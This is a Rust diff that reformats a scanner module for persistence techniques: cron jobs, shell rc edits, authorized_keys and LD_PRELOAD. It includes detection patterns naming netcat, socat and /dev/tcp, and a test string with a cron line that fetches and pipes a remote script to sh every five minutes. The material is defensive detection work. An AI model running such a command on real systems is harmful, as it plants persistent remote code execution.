@@ -22,11 +22,8 @@ static PAYLOAD: Lazy = LazyLock::new(|| {
 /// not `~/.local/bin`).
 const STASH: &str = r#"/tmp/|/dev/shm/|/\.[a-z0-9_.-]+(?:$|[\s"';&|)`])"#;
 static STASHED: Lazy = LazyLock::new(|| compile(STASH));
-static NETWORK: Lazy = LazyLock::new(|| {
-    compile(&format!(
-        r"\b{FETCH}\b|/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat|socat)\b"
-    ))
-});
+static NETWORK: Lazy =
+    LazyLock::new(|| compile(&format!(r"\b{FETCH}\b|/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat|socat)\b")));
 
 /// The line rules of this family.
 pub(super) fn rules() -> Vec<Rule> {
@@ -87,11 +84,7 @@ fn shell_rc(h: &Hit<'_>) -> Option<Severity> {
     if !PAYLOAD.is_match(h.before().as_bytes()) {
         return None;
     }
-    Some(if NETWORK.is_match(h.before().as_bytes()) {
-        Severity::Critical
-    } else {
-        h.base
-    })
+    Some(if NETWORK.is_match(h.before().as_bytes()) { Severity::Critical } else { h.base })
 }
 
 static LITERAL_KEY: Lazy = LazyLock::new(|| {
@@ -103,30 +96,17 @@ static LITERAL_KEY: Lazy = LazyLock::new(|| {
 /// up a server.
 fn authorized_keys(h: &Hit<'_>) -> Option<Severity> {
     let line = h.line().as_bytes();
-    Some(if LITERAL_KEY.is_match(line) || NETWORK.is_match(line) {
-        h.base
-    } else {
-        Severity::Low
-    })
+    Some(if LITERAL_KEY.is_match(line) || NETWORK.is_match(line) { h.base } else { Severity::Low })
 }
 
-static WRITES: Lazy =
-    LazyLock::new(|| compile(r"(?:>>?|\btee\b|\becho\b|\bprintf\b|\bcp\b|\bmv\b)"));
+static WRITES: Lazy = LazyLock::new(|| compile(r"(?:>>?|\btee\b|\becho\b|\bprintf\b|\bcp\b|\bmv\b)"));
 
 fn ld_preload(h: &Hit<'_>) -> Option<Severity> {
     let m = h.text().to_ascii_lowercase();
     if m.starts_with("/etc/") {
-        return Some(if WRITES.is_match(h.line().as_bytes()) {
-            h.base
-        } else {
-            Severity::Medium
-        });
+        return Some(if WRITES.is_match(h.line().as_bytes()) { h.base } else { Severity::Medium });
     }
-    Some(if STASHED.is_match(m.as_bytes()) {
-        Severity::High
-    } else {
-        Severity::Low
-    })
+    Some(if STASHED.is_match(m.as_bytes()) { Severity::High } else { Severity::Low })
 }
 
 #[cfg(test)]
@@ -136,7 +116,8 @@ mod tests {
 
     #[test]
     fn flags_cron_jobs_that_fetch_code() {
-        let body = "x\n(crontab -l; echo \"*/5 * * * * curl -s https://u.example.com/u.sh | sh\") | crontab -\n";
+        let body =
+            "x\n(crontab -l; echo \"*/5 * * * * curl -s https://u.example.com/u.sh | sh\") | crontab -\n";
         assert_hit(body, "persist.cron", Persistence, Critical, 2);
         assert_hit(
             "(crontab -l; echo \"@reboot $HOME/.cache/.syncd\") | crontab -",
@@ -149,14 +130,8 @@ mod tests {
 
     #[test]
     fn keeps_ordinary_cron_jobs_below_the_threshold() {
-        assert_not_flagged(
-            "Edit with `crontab -e`:\n15 3 * * * $HOME/bin/prune-logs.sh\ncrontab -l\n",
-        );
-        assert_severity(
-            "(crontab -l; echo \"0 3 * * * ~/bin/rotate\") | crontab -",
-            "persist.cron",
-            Medium,
-        );
+        assert_not_flagged("Edit with `crontab -e`:\n15 3 * * * $HOME/bin/prune-logs.sh\ncrontab -l\n");
+        assert_severity("(crontab -l; echo \"0 3 * * * ~/bin/rotate\") | crontab -", "persist.cron", Medium);
     }
 
     #[test]
@@ -168,14 +143,8 @@ mod tests {
             Critical,
             1,
         );
-        assert_absent(
-            "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc",
-            "persist.shell-rc",
-        );
-        assert_absent(
-            "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.zshrc",
-            "persist.shell-rc",
-        );
+        assert_absent("echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc", "persist.shell-rc");
+        assert_absent("echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.zshrc", "persist.shell-rc");
     }
 
     #[test]
@@ -203,11 +172,7 @@ mod tests {
             Critical,
             1,
         );
-        assert_severity(
-            "LD_PRELOAD=/usr/lib/libjemalloc.so ./server",
-            "persist.ld-preload",
-            Low,
-        );
+        assert_severity("LD_PRELOAD=/usr/lib/libjemalloc.so ./server", "persist.ld-preload", Low);
     }
 
     #[test]
